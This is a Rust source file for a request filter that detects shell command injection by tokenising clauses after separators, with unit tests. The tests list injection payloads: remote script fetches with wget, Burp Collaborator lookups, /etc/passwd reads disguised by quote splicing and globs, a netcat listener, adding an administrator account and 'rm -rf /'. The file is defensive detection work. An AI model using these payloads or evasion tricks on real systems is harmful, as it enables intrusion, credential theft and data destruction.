//! Command injection by shell tokenisation (rules 5000 and 5002).
//!
//! A keyword list alone blocks prose (`heroine; more than that`, `rm -rf is dangerous; chmod
//! 755 is what you want`) and markdown (`` `ls -la` `` in a comment). So after each shell
//! separator (`;`, `|`, `&`, newline, backtick, `$(`) the *clause* up to the next separator is
//! tokenised the way a shell would (`$IFS`, `+` and `,` count as blanks) and judged: a known
//! command followed by shell-like arguments (options, paths, variables, quotes, numbers, host
//! names, redirections) and at most one plain word is a command; a command followed by a
//! sentence is prose. Backtick spans that read as markdown inline code inside prose are not
//! separators.

use super::commands::{first_word, is_command};
use super::graphql::graphql_document;
use super::shell_line::{expansion, few_plain, glob_path, splice, windows_line};
use crate::request::Location;

/// Whether `v` [is prose](is_prose), computed on first use: most values never ask (no command
/// word after a separator, no backtick), and counting words is costly on the values that do
/// (a browser User-Agent has `;`).
struct LazyProse<'v> {
    v: &'v str,
    known: Option<bool>,
}

impl LazyProse<'_> {
    fn get(&mut self) -> bool {
        *self.known.get_or_insert_with(|| is_prose(self.v))
    }
}

/// Rule 5000: a separator followed by a command clause.
pub(crate) fn chained_command(v: &str, _loc: Location) -> bool {
    let b = v.as_bytes();
    let mut prose = LazyProse { v, known: None };
    let mut graphql = None;
    let mut i = 0;
    while i < b.len() {
        let c = b[i];
        // One table load for the bytes that cannot start a separator: most of them. This replaced
        // a pre-pass testing each byte against the separators and a match per byte.
        if !MAY_SEPARATE[c as usize] {
            i += 1;
            continue;
        }
        let sep_len = match c {
            // A lone CR ends a command line for cmd.exe and for line-reading servers.
            b';' | b'|' | b'&' | b'\n' => 1,
            b'\r' if b.get(i + 1) != Some(&b'\n') => 1,
            b'`' if !(markdown_code(b, i) && (prose.get() || text_around_code(v))) => 1,
            b'$' if b.get(i + 1) == Some(&b'(') => 2,
            _ => 0,
        };
        // `fish & chips & more`: an ampersand between spaced words is the conjunction, and
        // only a clause that is surely a command follows it.
        let conjunction = c == b'&'
            && i >= 2
            && b[i - 1] == b' '
            && b[i - 2].is_ascii_alphabetic()
            && b.get(i + 1) == Some(&b' ');
        if sep_len > 0 && assigned_and_run(&v[..i], &v[i + sep_len..]) {
            return true;
        }
        if sep_len > 0
            && command_clause(&v[i + sep_len..], c != b'`', || {
                matches!(c, b'\n' | b'\r') || conjunction || prose.get()
            })
            && !(c == b'\n' && *graphql.get_or_insert_with(|| graphql_document(v)))
        {
            return true;
        }
        i += sep_len.max(1);
    }
    false
}

/// `garb=adduse[r];$garb pizza`: a variable assigned a program name in `before` (at its start
/// or after a blank or separator) and run as the command of the clause `rest`.
fn assigned_and_run(before: &str, rest: &str) -> bool {
    let t = rest.trim_start_matches([' ', '+', '\t']);
    let Some(r) = t.strip_prefix('$') else {
        return false;
    };
    let r = r.strip_prefix('{').unwrap_or(r);
    let n = r
        .bytes()
        .take_while(|c| c.is_ascii_alphanumeric() || *c == b'_')
        .count();
    if n == 0 || !r.as_bytes()[0].is_ascii_alphabetic() {
        return false;
    }
    let name = &r[..n];
    // Its arguments as a command's: at most one plain word (`$a and $b are` is a sentence).
    let args = &r[n..];
    let args = &args[..args.find([';', '|', '&', '\n']).unwrap_or(args.len())];
    if args
        .split([' ', '+', '\t'])
        .filter(|t| !t.is_empty() && !shell_arg(t))
        .nth(1)
        .is_some()
    {
        return false;
    }
    let b = before.as_bytes();
    before.match_indices(name).any(|(k, _)| {
        let value = &b[(k + n + 1).min(b.len())..];
        b.get(k + n) == Some(&b'=')
            && (k == 0 || b" +\t;|&\n".contains(&b[k - 1]))
            && value
                .first()
                .is_some_and(|c| c.is_ascii_lowercase() || *c == b'/')
            && value
                .iter()
                .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || b"_./-[]".contains(c))
    })
}

/// Bytes that may start a separator of [`chained_command`]: `;`, `|`, `&`, newline, CR,
/// backtick, and `$` (of `$(`).
static MAY_SEPARATE: [bool; 256] = {
    let mut t = [false; 256];
    let seps = b";|&\n\r`$";
    let mut k = 0;
    while k < seps.len() {
        t[seps[k] as usize] = true;
        k += 1;
    }
    t
};

/// Rule 5002: `` `cmd ...` `` or `$(cmd ...)` with a known command, or `$((a*b))` arithmetic.
pub(crate) fn substitution(v: &str, _loc: Location) -> bool {
    let b = v.as_bytes();
    let mut prose = LazyProse { v, known: None };
    for (i, &c) in b.iter().enumerate() {
        let inner = match c {
            b'`' if !(markdown_code(b, i) && (prose.get() || text_around_code(v))) => {
                match b[i + 1..].iter().position(|&x| x == b'`') {
                    Some(n) => &v[i + 1..i + 1 + n],
                    None => continue,
                }
            }
            b'$' if b.get(i + 1) == Some(&b'(') => {
                if b.get(i + 2) == Some(&b'(') && arithmetic(&v[i + 3..]) {
                    return true;
                }
                match b[i + 2..].iter().position(|&x| x == b')') {
                    Some(n) => &v[i + 2..i + 2 + n],
                    None => &v[i + 2..],
                }
            }
            _ => continue,
        };
        let word = first_word(inner.trim_start());
        if is_command(word, true) {
            return true;
        }
    }
    false
}

fn arithmetic(s: &str) -> bool {
    let end = s.find("))").unwrap_or(s.len());
    let e = &s[..end];
    !e.is_empty()
        && e.bytes().any(|c| b"*+-/".contains(&c))
        && e.bytes()
            .all(|c| c.is_ascii_digit() || b"*+-/ ".contains(&c))
}

/// Whether `rest` (the text after a separator) starts with a command clause; a word not in
/// the lists counts only when `unknown_ok` (not after a backtick: markdown quotes any command). `strict()` (a
/// clause after a newline, or in prose) is asked only when a command word starts the clause.
fn command_clause(rest: &str, unknown_ok: bool, strict: impl FnOnce() -> bool) -> bool {
    let t = rest.trim_start_matches([' ', '+', '\t', '{', '(', '\r']);
    // A quoted command word (`;'curl' http://x`, `;"rmt" --version`) is the word to a shell.
    let (word, after) = quoted_word(t).unwrap_or_else(|| {
        let w = first_word(t);
        (w, &t[w.len()..])
    });
    // The whole shell word, up to a blank or a separator: spliced with quotes or empty
    // expansions (`c$@at`, `/bin/ca''t`) or globbed (`/bin/ca?`, `/???/?s`), it is a word only a
    // shell reads, and the command it makes is the evidence.
    let raw_end = t
        .find([' ', '+', '\t', ';', '|', '&', '\n', ')', '}', '`'])
        .unwrap_or(t.len());
    let raw = &t[..raw_end];
    // `$a -nlvp 555` (after `a=nc`): a variable run as the command, with an option.
    if expansion(raw)
        && t[raw_end..]
            .trim_start_matches([' ', '+', '\t'])
            .strip_prefix('-')
            .is_some_and(|o| o.starts_with(|c: char| c.is_ascii_alphabetic()))
    {
        return true;
    }
    if raw.len() > word.len() {
        let spliced = splice(raw);
        if (spliced != raw && first_word(&spliced) == spliced && is_command(&spliced, true))
            || glob_path(raw)
        {
            return true;
        }
        // An unset variable before the command (`|$u wget x`) expands to nothing.
        if spliced.is_empty() && raw_end < t.len() && t.as_bytes()[raw_end] == b' ' {
            return command_clause(&t[raw_end..], unknown_ok, strict);
        }
    }
    if windows_line(t) {
        return true;
    }
    // `. file` and `source file` read commands; `. rm -rf /` runs `rm`.
    if let Some(r) = t
        .strip_prefix(". ")
        .or_else(|| t.strip_prefix(".+"))
        .or_else(|| t.strip_prefix("source "))
    {
        return command_clause(r, unknown_ok, strict);
    }
    if word.is_empty() {
        return false;
    }
    if !is_command(word, true) {
        return unknown_ok && unknown_command(word, after);
    }
    // The clause ends at the next separator.
    let end = after
        .find([';', '|', '&', '\n', '`', ')', '}'])
        .unwrap_or(after.len());
    let clause = after[..end]
        .replace("${IFS}", " ")
        .replace("$IFS$9", " ")
        .replace("$IFS", " ")
        .replace(['+', ',', '\t'], " ");
    if !clause.is_empty() && !clause.starts_with(' ') && !clause.starts_with(['<', '>', '\'', '"'])
    {
        return false; // `cats`, `id_card`: not the command
    }
    let (mut plain, mut shell, mut options) = (0usize, 0usize, 0usize);
    for tok in clause.split(' ').filter(|t| !t.is_empty()) {
        if shell_arg(tok) {
            shell += 1;
            options += usize::from(tok.len() > 1 && tok.starts_with('-'));
        } else {
            plain += 1;
        }
    }
    let unamb = is_command(word, false);
    if plain == 0 && shell == 0 {
        // A bare command: `;id`, `|whoami;`. Prose rarely ends a clause on a command word.
        return unamb || !strict();
    }
    // A capitalised name (`Python`, `Curl`) before a word is a product name: only shell
    // arguments make it a command.
    let capitalised = word.as_bytes()[0].is_ascii_uppercase()
        && !word.bytes().skip(1).any(|c| c.is_ascii_uppercase());
    few_plain(plain, shell, options) && (shell > 0 || (unamb && !capitalised && !strict()))
}

/// `'word'` or `"word"` at the start of `t`, a single shell word inside: the word and what
/// follows the closing quote.
fn quoted_word(t: &str) -> Option<(&str, &str)> {
    let q = *t.as_bytes().first()?;
    if q != b'\'' && q != b'"' {
        return None;
    }
    let n = t[1..].find(q as char)? + 1;
    let inner = &t[1..n];
    (!inner.is_empty() && first_word(inner) == inner).then(|| (inner, &t[n + 1..]))
}

/// A word not in the command lists in command position, followed by what only a command line
/// holds: lower-case options (`rmt --version`, `lastlog -u root`), at most one plain word. Prose
/// after a separator has no `-x` option; a product name is capitalised.
fn unknown_command(word: &str, after: &str) -> bool {
    let b = word.as_bytes();
    if b.len() < 2
        || !b[0].is_ascii_lowercase()
        || !b
            .iter()
            .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || b"-_.".contains(c))
    {
        return false;
    }
    // `irb<<<1+2`: a here-string glued to the program it feeds (PHP's heredoc follows `=` or a
    // blank, never a word).
    if after.starts_with("<<<") {
        return true;
    }
    if !after.starts_with([' ', '+', '\t']) {
        return false;
    }
    let end = after
        .find([';', '|', '&', '\n', '`', ')', '}'])
        .unwrap_or(after.len());
    let (mut options, mut plain) = (0usize, 0usize);
    for tok in after[..end]
        .split([' ', '+', '\t'])
        .filter(|t| !t.is_empty())
    {
        let o = tok.strip_prefix("--").or_else(|| tok.strip_prefix('-'));
        match o {
            Some(name)
                if name.as_bytes().first().is_some_and(u8::is_ascii_lowercase)
                    && !name.bytes().any(|c| c.is_ascii_uppercase()) =>
            {
                options += 1
            }
            _ if shell_arg(tok) => {}
            _ => plain += 1,
        }
    }
    options > 0 && plain <= 1
}

/// Options, paths, variables, quotes, numbers, host names, redirections, globs.
pub(crate) fn shell_arg(t: &str) -> bool {
    let first = t.as_bytes()[0];
    b"-/.~$'\"\\<>*0123456789%@".contains(&first)
        || t.contains(['/', '=', '\\', '$', '*'])
        || host_name(t.strip_suffix('.').unwrap_or(t))
        || t.len() >= 2 && t.as_bytes()[1] == b':'
}

/// `example.com`, `a.b.c`: dot-separated labels.
fn host_name(t: &str) -> bool {
    t.contains('.')
        && t.split('.')
            .all(|p| !p.is_empty() && p.bytes().all(|c| c.is_ascii_alphanumeric() || c == b'-'))
}

/// Whether `v` has at least two words of letters outside its backtick spans: inline code in
/// a sentence (`` store `ls -l` output to sqlite ``), not a substitution that is the value.
fn text_around_code(v: &str) -> bool {
    v.split('`')
        .step_by(2)
        .flat_map(str::split_whitespace)
        .filter(|w| {
            w.len() >= 2
                && w.chars()
                    .all(|c| c.is_alphabetic() || ",.!?'()".contains(c))
        })
        .nth(1)
        .is_some()
}

/// Text with several words of prose: a sentence, not a parameter.
fn is_prose(v: &str) -> bool {
    v.split_whitespace()
        .filter(|w| w.len() >= 2 && w.chars().all(|c| c.is_alphabetic() || ",.!?'".contains(c)))
        .count()
        >= 6
}

/// A backtick at `i` that opens or closes markdown inline code: blank or punctuation outside,
/// text inside.
fn markdown_code(b: &[u8], i: usize) -> bool {
    let outside_ok = |c: Option<&u8>| {
        c.is_none_or(|c| c.is_ascii_whitespace() || b"([{\"'.,:;!?)]}*_-".contains(c))
    };
    let before = if i == 0 { None } else { b.get(i - 1) };
    let after = b.get(i + 1);
    if before == Some(&b'`') || after == Some(&b'`') {
        return true; // ``` fences and `` double backticks ``
    }
    // Opening: blank before, text after. Closing: text before, blank after. Fences: ``` runs.
    (outside_ok(before) && after.is_some_and(|c| !c.is_ascii_whitespace()))
        || (before.is_some_and(|c| !c.is_ascii_whitespace()) && outside_ok(after))
}

#[cfg(test)]
mod tests {
    use super::super::commands::{AMBIGUOUS, UNAMBIGUOUS};
    use super::*;

    #[test]
    fn command_clauses() {
        let l = Location::QueryArg;
        let attacks = [
            ";wget http://some_host/sh311.sh",
            "|getent+hosts+somehost.burpcollaborator.net.&",
            ";getent$IFS$9hosts$IFS$9somehost.burpcollaborator.net;echo$IFS$9$((3482*7301));",
            "| set /a 3482*7301",
            "ax--exec=`id`--remote=origin",
            "; cat /et'c/pa'ss'wd",
            "cmd=127.0.0.1 && ls /etc",
            "127.0.0.1; ping -c 10 127.0.0.1",
            "x|whoami",
            "a;/bin/cat /etc/passwd",
            "1 && sleep 5 &&",
            ";rmt --version",
            ";lastlog -u root",
            ";'curl' http://example.com/x",
            ";\"rmt\" --version",
            "www.example.com;c$@at /et$@c/pas$@swd",
            "www.example.com;/bin/ca? /et*/passwd",
            "x;/???/?s -la",
            "`cat /etc/passwd`",
            "a=nc&&$a -nlvp 555",
            "x|$u wget http://example.com/a",
            "x;cd /;cat passwd",
            "127.0.0.1\rwhoami",
            "x; net user",
            "127.0.0.1 & net localgroup administrators hacker /add",
            "x| ver",
            "x | findstr /s password *.txt",
            "& for %i in (1) do whoami",
            "x&%COMSPEC% /c dir",
            "garb=adduse[r];$garb pizza",
            "ifconfig;. rm -rf /; Something \"The Title\". After space more characters",
            ";find /etc -name passwd -exec cat {} +",
            "'cmd=a; sh$XX -c whoami",
            ";{cat,/etc/passwd}",
            "x;python3.11 -c 'import os'",
            ";irb<<<1+2",
        ];
        for a in attacks {
            assert!(chained_command(a, l) || substitution(a, l), "missed {a:?}");
        }
        let benign = [
            "The Senora found herself a heroine; more than that, she became aware",
            "BASE; SET SWAROVSKI",
            "rm -rf is dangerous; chmod 755 is what you want for the uploads folder.",
            "Kill the lights, set the table, and don't forget the cat's dinner!",
            "Tom & Jerry",
            "Use `git log --oneline` to see the history, then `git rebase -i HEAD~3` please ok.",
            "Some words here to make prose.\n\n```bash\n$ ls -la ~/projects\n```\nthanks a lot",
            "fish & chips; cats and dogs",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101",
            "a; well-known -- and more words here",
            "Pros; Cons -Foo",
            "Goal-driven multi-attempt iteration loop driven by `claude -p`",
            "store `ls -l`, `md5sum` and `sha256sum` to sqlite",
            "Recursively mkdir, like `mkdir -p`",
            "The Baidu Searcher On Python|Python 百度搜索工具",
            "query Q($id: ID!) {\n  user(id: $id) {\n    id\n    type\n  }\n}",
            "{\n  viewer {\n    id\n    login\n  }\n}",
            "Globs such as /images/*.png; see the docs",
            "fish & chips & more",
            "Windows XP; Service Pack 3 & updates",
            "Hello\r\nI need help with my order\r\nThanks",
            "Notes:\nset up the meeting\nping me later",
            "AT&T; net income rose",
            "price=5; $price is what you pay",
            "a=b; $a and $b are the values",
            "Chapter 1. Done; . The end",
            "; find the -best -deals and the best prices here now",
            "Version 3.11 of python; python3.11 is out now",
            "<?php $x = 1; $s = <<<EOT\nhello\nEOT;",
        ];
        for b in benign {
            assert!(
                !chained_command(b, l) && !substitution(b, l),
                "false positive {b:?}"
            );
        }
    }

    #[test]
    fn command_lists_are_lower_case() {
        // `is_command` compares ignoring ASCII case against these as written.
        for c in UNAMBIGUOUS.iter().chain(AMBIGUOUS) {
            assert_eq!(*c, c.to_ascii_lowercase(), "{c}");
        }
        // `is_command` searches them by bisection.
        for list in [UNAMBIGUOUS, AMBIGUOUS] {
            assert!(list.windows(2).all(|w| w[0] < w[1]), "not sorted: {list:?}");
        }
        assert!(is_command("/usr/bin/WGET.exe", false));
        assert!(is_command("Cat", true) && !is_command("Cat", false));
    }
}
